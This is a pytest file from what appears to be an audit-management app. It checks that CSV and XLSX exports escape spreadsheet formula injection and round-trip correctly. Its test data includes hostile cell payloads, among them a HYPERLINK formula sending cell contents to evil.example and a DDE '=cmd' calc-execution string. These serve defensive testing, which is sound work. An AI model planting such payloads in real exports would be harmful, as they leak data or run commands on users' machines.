"""Spreadsheet formula injection: every CSV/XLSX export guards cells through one function."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from audit.core.exports import guard_cell, unguard_cell
from audit.extensions import db
from audit.library.checklists import files as checklists
from audit.library.checklists.versions import questions_of
from audit.reports import services as reports

NOW = dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(A1:A9)", "+1+2", "-2+3", "\tcmd", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_guard_prefixes_formula_starts_and_round_trips(value):
    """= + - @ TAB and CR at the start get an apostrophe; reading our own file back removes it."""
    guarded = guard_cell(value)
    assert guarded == "'" + value and unguard_cell(guarded) == value


def test_guard_leaves_safe_values_alone():
    """Numbers, dates and plain text are written as they are."""
    assert [guard_cell(v) for v in (-5, 1.5, None, "Plain", "a=b")] == [-5, 1.5, None, "Plain", "a=b"]


def test_checklist_template_csv_export_is_guarded_and_reimports(app, library):
    """A question text =HYPERLINK(...) and guidance @SUM(...) are exported with an apostrophe and the
    exported CSV imports back to the same text."""
    yaml_text = ("template: Guarded\nsections:\n- title: \"=cmd|' /C calc'!A0\"\n  questions:\n"
                 "  - key: q1\n    text: '=HYPERLINK(\"http://evil.example\",\"click\")'\n"
                 "    guidance: '@SUM(A1:A2)'\n    clauses: ['ISO 9001:2015 8.5.2']\n")
    version = checklists.import_template(yaml_text, "yaml", actor=None, now=NOW, publish=True)
    db.session.commit()
    exported = checklists.export_template(version, "csv")
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows[0]["text"].startswith("'=HYPERLINK") and rows[0]["guidance"] == "'@SUM(A1:A2)"
    assert rows[0]["section"].startswith("'=cmd")
    again = checklists.import_template(exported, "csv", actor=None, now=NOW, publish=True)
    question = questions_of(again)[0]
    assert question.text == '=HYPERLINK("http://evil.example","click")' and question.guidance == "@SUM(A1:A2)"


def test_management_review_exports_are_guarded(app, make):
    """Supplier names starting with TAB, CR, = or @ are guarded in the CSV and the XLSX pack."""
    from openpyxl import load_workbook

    pack = reports.build_pack(dt.date(2026, 1, 1), dt.date(2026, 12, 31), today=NOW.date())
    pack.suppliers = [{"name": name, "risk": "high", "status": "approved", "ncs": 0, "open_scars": 0,
                       "overdue_scars": 0} for name in HOSTILE]
    rows = list(csv.reader(io.StringIO(reports.pack_csv(pack))))
    names = [r[1] for r in rows if r[0] == "supplier"]
    assert names == ["'" + h for h in HOSTILE]
    sheet = load_workbook(io.BytesIO(reports.pack_xlsx(pack)))["Suppliers"]
    cells = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # XML turns a stored CR into LF on reading; the apostrophe in front is what matters.
    assert cells == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


def test_programme_xlsx_export_is_guarded(app):
    """The programme export guards its programme fields, audit rows and coverage rows alike."""
    from types import SimpleNamespace

    from openpyxl import load_workbook

    from audit.programme.export import ExportRow, export_xlsx

    programme = SimpleNamespace(name="\t=evil", period_start=dt.date(2027, 1, 1), period_end=dt.date(2027, 12, 31),
                                status=SimpleNamespace(value="draft"), approved_version=None,
                                objectives="@SUM(A1)", scope="plain")
    row = ExportRow("IA-1", "=HYPERLINK(\"x\")", "Internal", "+Site", "UTC", "2027-01-04", "2027-01-04",
                    "ISO 9001", "-Unit", "Lead", "", "Planned")
    book = load_workbook(io.BytesIO(export_xlsx({"programme": programme, "rows": [row],
                                                 "coverage": [("@Site", "=Unit", "ISO 9001", ["IA-1"])]})))
    assert book["Programme"]["B1"].value == "'\t=evil" and book["Programme"]["B6"].value == "'@SUM(A1)"
    assert [c.value for c in book["Audits"][2]][1] == "'=HYPERLINK(\"x\")"
    assert [c.value for c in book["Coverage"][2]][:2] == ["'@Site", "'=Unit"]
